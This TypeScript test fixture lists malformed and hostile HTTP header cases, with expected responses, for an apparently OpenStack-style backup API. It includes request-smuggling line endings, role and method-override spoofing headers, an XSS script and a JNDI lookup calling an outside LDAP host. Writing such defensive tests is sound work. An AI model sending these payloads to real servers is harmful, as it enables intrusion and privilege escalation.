import { record, tokens } from "./fixture.ts"
import { ask, auth, bytes, CLOSE, get, HOST, JSON_TYPE, LIST, type Row, raw, row } from "./Row.ts"

const line = `GET ${LIST} HTTP/1.1`
const text = (...lines: ReadonlyArray<string>): Buffer => bytes([...lines, "", ""].join("\r\n"))
const signed = [HOST, auth(tokens.member)]
const many = (count: number): ReadonlyArray<string> => Array.from({ length: count }, () => "a:")
const put = JSON.stringify({ backup: { ...record, name: "must not be written" } })
/** A good PUT, with a header behind 2,500 others. */
const write = (header: string): Buffer =>
  ask("PUT", `${LIST}/full`, [JSON_TYPE, `Content-Length: ${put.length}`, ...many(2500), header], put)

/** Headers that are none, that are too many or too large, and that ask for what they must not get. */
export const headers: ReadonlyArray<Row> = [
  row("a header without a colon", 400, get(LIST, "nonsense")),
  row("a header without a name", 400, get(LIST, ": value")),
  row("a header of a colon", 400, get(LIST, ":")),
  row("a space before the colon", 400, get(LIST, "X-Pad : x")),
  row("a space before the colon of the token", 400, raw(line, [HOST, `X-Auth-Token : ${tokens.member}`, CLOSE])),
  row("a tab before the colon", 400, get(LIST, "X-Pad\t: x")),
  row("a space in a name", 400, get(LIST, "X Pad: x")),
  row("a name in parentheses", 400, get(LIST, "(X): x")),
  row("a name in brackets", 400, get(LIST, "X[]: x")),
  row("a name with a slash", 400, get(LIST, "X/Y: x")),
  row("a name with a NUL", 400, get(LIST, "X\0Y: x")),
  row("a name with an 8-bit letter", 400, get(LIST, "X-\xc4: x")),
  row("a value with a NUL", 400, get(LIST, "X-Pad: a\0b")),
  row("a value with a bare CR", 400, get(LIST, "X-Pad: a\rb")),
  row("a value with a DEL", 400, get(LIST, "X-Pad: a\x7fb")),
  row("a value with an escape", 400, get(LIST, "X-Pad: a\x1bb")),
  row("a value with a backspace", 400, get(LIST, "X-Pad: a\bb")),
  row("a value with a vertical tab", 400, get(LIST, "X-Pad: \vb")),
  row("a value of 8-bit letters", 200, get(LIST, "X-Pad: \xe4\xff")),
  row("an empty value", 200, get(LIST, "X-Pad:")),
  row("a space before the first header", 400, text(line, ` ${HOST}`, auth(tokens.member), CLOSE)),
  row("spaces instead of the first header", 400, text(line, " ", HOST, auth(tokens.member), CLOSE)),
  row("a bare LF behind the request line", 400, bytes(`${line}\n${[...signed, CLOSE].join("\r\n")}\r\n\r\n`)),
  row("a bare LF between headers", 400, bytes(`${line}\r\n${[...signed, CLOSE].join("\n")}\r\n\r\n`)),
  row("a bare LF at the end", 400, bytes(`${line}\r\n${[...signed, CLOSE].join("\r\n")}\n\n`)),
  row("a bare CR at the end", 400, bytes(`${line}\r\n${[...signed, CLOSE].join("\r\n")}\r\r`)),
  row("a header folded into two lines", 400, get(LIST, "X-Pad: a\r\n b")),
  row("a token folded into two lines", 400, raw(line, [HOST, `X-Auth-Token:\r\n ${tokens.member}`, CLOSE])),
  row("a length folded into two lines", 400, ask("POST", LIST, ["Content-Length:\r\n 2"], "{}")),
  row("a header behind an LF in a value", 400, get(LIST, "X-Pad: a\nX-Pad: b")),

  row("a header of 20,000 bytes", 400, get(LIST, `X-Pad: ${"x".repeat(20_000)}`)),
  row("a header of 100,000 bytes", 400, get(LIST, `X-Pad: ${"x".repeat(100_000)}`)),
  row("a header's name of 20,000 bytes", 400, get(LIST, `${"x".repeat(20_000)}: 1`)),
  row("headers of 20,000 bytes together", 400, get(LIST, ...Array(200).fill(`X-Pad: ${"x".repeat(91)}`))),
  row("20,000 headers", 400, get(LIST, ...many(20_000))),
  row("2,500 headers before the token", 200, raw(line, [HOST, ...many(2500), auth(tokens.member), CLOSE])),
  row("2,500 headers before a wrong token", 401, raw(line, [HOST, ...many(2500), auth("nobody's"), CLOSE])),
  row("2,500 headers before a second token", 401, get(LIST, ...many(2500), auth("nobody's"))),
  row("2,500 headers before a second Host", 400, get(LIST, ...many(2500), "Host: elsewhere.example")),
  row("2,500 headers before If-None-Match", 412, write("If-None-Match: *")),
  row("2,500 headers before If-Match", 412, write('If-Match: "another"')),
  row("2,500 headers before Content-Encoding", 415, write("Content-Encoding: gzip")),
  row("values of nothing but spaces, 15,000 of them", 200, get(LIST, `X-Pad:${" ".repeat(15_000)}x`)),

  row("the members of Object.prototype as headers", 200, get(LIST, "__proto__: x", "constructor: y", "toString: z")),
  row("another method by a header", 200, get(`${LIST}/full`, "X-HTTP-Method-Override: DELETE")),
  row("another method by another header", 200, get(`${LIST}/full`, "X-HTTP-Method: DELETE", "X-Method-Override: PUT")),
  row("another path by headers", 200, get(LIST, "X-Original-URL: /v1.0/99/backups", "X-Rewrite-URL: /v1.0/99/backups")),
  row("another account by headers", 200, get(LIST, "X-Project-Id: 99", "X-Tenant-Id: 99", "X-Roles: admin")),
  row(
    "an identity that middleware would have confirmed",
    401,
    raw(line, [HOST, "X-Identity-Status: Confirmed", CLOSE])
  ),
  row("an admin by a header", 403, get(`${LIST}?all_projects=true`, "X-Roles: admin", "X-Is-Admin-Project: True")),
  row("a request id of the caller's that is none", 200, get(LIST, "X-Request-Id: of the caller"), {
    lacks: "of the caller"
  }),
  row("two request ids of the caller's", 200, get(LIST, "X-Request-Id: of-the-caller", "X-Request-Id: of-the-caller"), {
    lacks: "of-the-caller"
  }),
  row("a request id of OpenStack's", 200, get(LIST, "X-Openstack-Request-Id: req-of-the-caller"), {
    lacks: "of-the-caller"
  }),
  row("an Accept of what there is not", 200, get(LIST, "Accept: text/html")),
  row("an Accept that is none", 200, get(LIST, "Accept: ///;;q=x")),
  row("a Content-Type without a body", 200, get(LIST, "Content-Type: application/xml")),
  row("a Content-Encoding without a body", 200, get(LIST, "Content-Encoding: gzip")),
  row("an Accept-Encoding of everything", 200, get(LIST, "Accept-Encoding: gzip, br, *;q=0.1")),
  row("cookies of 10,000 bytes", 200, get(LIST, `Cookie: ${"a=b; ".repeat(2000)}`)),
  row("a script in the user agent", 200, get(LIST, "User-Agent: <script>alert(1)</script>"), { lacks: "alert" }),
  row("a look-up in the user agent", 200, get(LIST, "User-Agent: $\x7bjndi:ldap://elsewhere.example/a}"), {
    lacks: "jndi"
  })
]
